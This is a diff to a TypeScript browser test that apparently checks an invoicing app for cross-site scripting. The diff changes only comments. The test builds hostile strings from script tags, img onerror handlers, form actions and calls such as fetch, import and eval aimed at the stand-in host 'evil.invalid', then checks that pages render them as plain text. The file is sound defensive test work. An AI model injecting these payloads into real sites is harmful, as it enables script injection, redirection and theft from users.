@@ -8,12 +8,12 @@ const KEY = 'key-of-the-console-with-hostile-texts';
 const SLOW_MS = 600_000;
 const EVIL = '//evil.invalid';
 
-/** What a page could be made to do. */
+/** Scripts that an attacker might run in a page. */
 const DEEDS = [
   ...['alert(1)', 'prompt()', 'confirm()', 'print()', 'window.taken=1', "document.title='taken'"],
   ...[`fetch('${EVIL}')`, `import('${EVIL}/x')`, `top.location='${EVIL}'`, "eval('window.taken=1')"],
 ];
-/** Where it could be made to. */
+/** Ways in which a text might run such a script. */
 const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `<script>${deed}</script>`,
   (deed) => `<img src=x onerror="${deed}">`,
@@ -37,14 +37,14 @@ const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `<form action="${EVIL}"><button>${deed}`,
 ];
 const TEXTS = WAYS.flatMap((way) => DEEDS.map((deed) => way(deed)));
-/** So many of them are in the books; the others are reasons and names that people typed. */
+/** Number of these texts in the books; the others are reasons and names typed by people. */
 const OF_BOOKS = 160;
 
-/** Elements that none of our pages has, and that the texts would make. */
+/** Elements that the texts would create, and that none of our pages has. */
 const MADE = `script:not([src]), iframe, base, svg[onload], img[src="x"], details[ontoggle], form[action*="evil"],
   a[href^="javascript:"], a[href^="data:"], [onerror], [onfocus], [onmouseover]`;
 
-/** Texts of strangers, of the books and of people, are shown as what they are: texts. */
+/** Checks that texts of strangers, books and people are shown as plain text. */
 describeInBrowser('two hundred hostile texts', (browser) => {
   let world: World;
   const documents: string[] = [];
@@ -96,7 +96,7 @@ describeInBrowser('two hundred hostile texts', (browser) => {
         ]);
       }
       expect([dialogs, visitor.complaints]).toEqual([[], []]);
-      // Of the item codes, pages show those of the largest causes alone.
+      // Ignores item codes, of which pages show only those of the largest causes.
       const isItem = (index: number): boolean => index < OF_BOOKS && index % 4 === 3;
       expect(TEXTS.filter((text, index) => !isItem(index) && !shown.has(text))).toEqual([]);
       await visitor.leave();
@@ -105,7 +105,10 @@ describeInBrowser('two hundred hostile texts', (browser) => {
   );
 });
 
-/** Four texts an invoice: name of its customer, reference, description and item code. No customer has a TIN, so all are held. */
+/**
+ * Books with four texts per invoice: customer name, reference, description and item code. No customer has a TIN, so all
+ * documents are held.
+ */
 function booksOf(texts: readonly string[]) {
   const Contacts: Record<string, unknown>[] = [];
   const Invoices = Array.from({ length: texts.length / 4 }, (_, index) => {
